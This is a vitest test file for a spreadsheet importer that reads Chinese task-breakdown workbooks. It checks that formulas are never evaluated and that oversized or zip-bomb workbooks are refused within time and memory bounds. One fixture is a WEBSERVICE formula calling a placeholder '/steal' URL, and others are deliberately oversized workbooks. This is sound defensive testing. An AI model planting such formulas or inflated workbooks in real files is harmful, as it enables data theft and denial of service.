import { strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { parseBreakdown } from '../../src/extract/breakdown/index.ts';
import { xlsxTables } from '../../src/extract/breakdown/xlsx-rows.ts';
import { WorkbookRefused, XLSX_LIMITS } from '../../src/extract/breakdown/xlsx-limits.ts';
import { diffLedger } from '../../src/export/ledger-import.ts';
import { smallPlan } from '../export/fixtures.ts';
import { runIsolated } from './sandbox.ts';
import { rowXml, smallWorkbook } from './xlsx-build.ts';
import type { WorkbookCase } from './workers/big-workbooks.ts';

const HEADER = rowXml(1, ['序号', '任务内容', '牵头领导', '牵头单位', '完成时限', '合计']);

describe('formulas in a task workbook', () => {
  it('read as the value Excel cached, never evaluated; without a cached value, empty', async () => {
    const bytes = smallWorkbook(HEADER
      + rowXml(2, [1, '新开工重大项目50个。', '张伟', '市发改委', '2025年底', { formula: 'A2*2', cached: 7 }])
      + rowXml(3, [2, '民间投资增长8%。', '张伟', '市发改委', '2025年底', { formula: 'WEBSERVICE("http://127.0.0.1:9/steal")' }])
      + rowXml(4, [3, { formula: 'CONCATENATE("新建","学校3所。")', cached: '新建学校3所。' }, '张伟', '市教育局', '2025年底', { formula: '1/0', cached: '#DIV/0!' }]));
    const [rows] = await xlsxTables(bytes);
    expect(rows.map((r) => r[5])).toEqual(['合计', '7', '', '#DIV/0!']);
    const items = parseBreakdown({ text: '', tables: [rows] }).sections.flatMap((s) => s.items);
    expect(items.map((i) => [i.no, i.text, i.leadUnit])).toEqual([
      [1, '新开工重大项目50个。', '市发改委'],
      [2, '民间投资增长8%。', '市发改委'],
      [3, '新建学校3所。', '市教育局'],
    ]);
  });
});

describe('workbooks larger than a task table', () => {
  const tasks = (n: number) => Array.from({ length: n }, (_, i) => rowXml(i + 2, [i + 1, `任务${i + 1}`, '张伟', '市发改委', '2025年底', 0])).join('');
  const limits = { ...XLSX_LIMITS, maxRows: 100 };

  it('are measured exactly: as many rows as the limit are read, one more is refused', async () => {
    expect((await xlsxTables(smallWorkbook(HEADER + tasks(99)), limits))[0]).toHaveLength(100);
    await expect(xlsxTables(smallWorkbook(HEADER + tasks(100)), limits)).rejects.toThrow('workbook has more than 100 rows, more than a task table holds');
  });

  it('a sheet stored under another folder is counted too (exceljs loads it all the same)', async () => {
    const files = unzipSync(smallWorkbook(HEADER + tasks(100)));
    files['x/xl/worksheets/sheet1.xml'] = files['xl/worksheets/sheet1.xml'];
    files['xl/worksheets/sheet1.xml'] = strToU8('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>');
    await expect(xlsxTables(zipSync(files), limits)).rejects.toThrow('workbook has more than 100 rows');
  });

  it('a single row numbered 1 000 000 is refused, not expanded into a million rows', async () => {
    const t = performance.now();
    await expect(xlsxTables(smallWorkbook(HEADER + rowXml(1_000_000, [1, '任务']))))
      .rejects.toThrow(new WorkbookRefused(`sheet 重点工作 reaches row 1000000, more than the ${XLSX_LIMITS.maxRows} a task table holds`));
    expect(performance.now() - t).toBeLessThan(5_000);
  });

  it('the ledger importer refuses a workbook beyond the limits before exceljs loads it', async () => {
    const rows = Array.from({ length: XLSX_LIMITS.maxRows + 1 }, (_, i) => rowXml(i + 2, [i, '任务'])).join('');
    const t = performance.now();
    await expect(diffLedger(smallPlan(), smallWorkbook(HEADER + rows)))
      .rejects.toThrow(new WorkbookRefused(`workbook has more than ${XLSX_LIMITS.maxRows} rows, more than a task table holds`));
    expect(performance.now() - t).toBeLessThan(5_000);
  });

  it('a value in the last column (XFD) is refused by its cell count, not padded row by row', async () => {
    const rows = Array.from({ length: 100 }, (_, i) => `<row r="${i + 2}"><c r="A${i + 2}"><v>${i}</v></c><c r="XFD${i + 2}"><v>1</v></c></row>`).join('');
    await expect(xlsxTables(smallWorkbook(HEADER + rows))).rejects.toThrow(/spans more than 400000 cells/);
  });

  it('a million rows, a table at the limit and a 256 MB sheet: bounded time and memory', async () => {
    const run = await runIsolated<Record<string, WorkbookCase>>(new URL('./workers/big-workbooks.ts', import.meta.url), {}, { caseTimeoutMs: 30_000, maxHeapMb: 1024 });
    console.table(Object.fromEntries(Object.entries(run.result).map(([k, c]) => [k, {
      'file MB': (c.bytes / 1e6).toFixed(1), 'build ms': Math.round(c.buildMs), 'import ms': Math.round(c.importMs), 'peak rss MB (import)': run.peakRssMbByKind[`${k}: import`] ?? '–', outcome: c.outcome.slice(0, 90),
    }])));
    const { 'a million rows with formulas': million, 'as many rows as allowed': atLimit, 'a sheet that inflates to 256 MB': bomb } = run.result;
    expect(million.outcome).toBe(`refused: workbook has more than ${XLSX_LIMITS.maxRows} rows, more than a task table holds`);
    expect(million.importMs).toBeLessThan(3_000);
    expect(bomb.outcome).toBe('refused: workbook part xl/worksheets/sheet1.xml decompresses to more than 64 MB (zip bomb?)');
    expect(bomb.importMs).toBeLessThan(5_000);
    // The largest workbook accepted is read whole, formulas as their cached value.
    expect(atLimit.outcome).toBe(`read ${XLSX_LIMITS.maxRows} rows, ${XLSX_LIMITS.maxRows - 1} items; last row ["19999","新开工重大项目20000个。","张伟","市发改委","2025年12月底前","-1"]`);
    expect(atLimit.importMs).toBeLessThan(20_000);
    for (const k of Object.keys(run.result)) expect(run.peakRssMbByKind[`${k}: import`] ?? 0, k).toBeLessThan(600);
  });
});
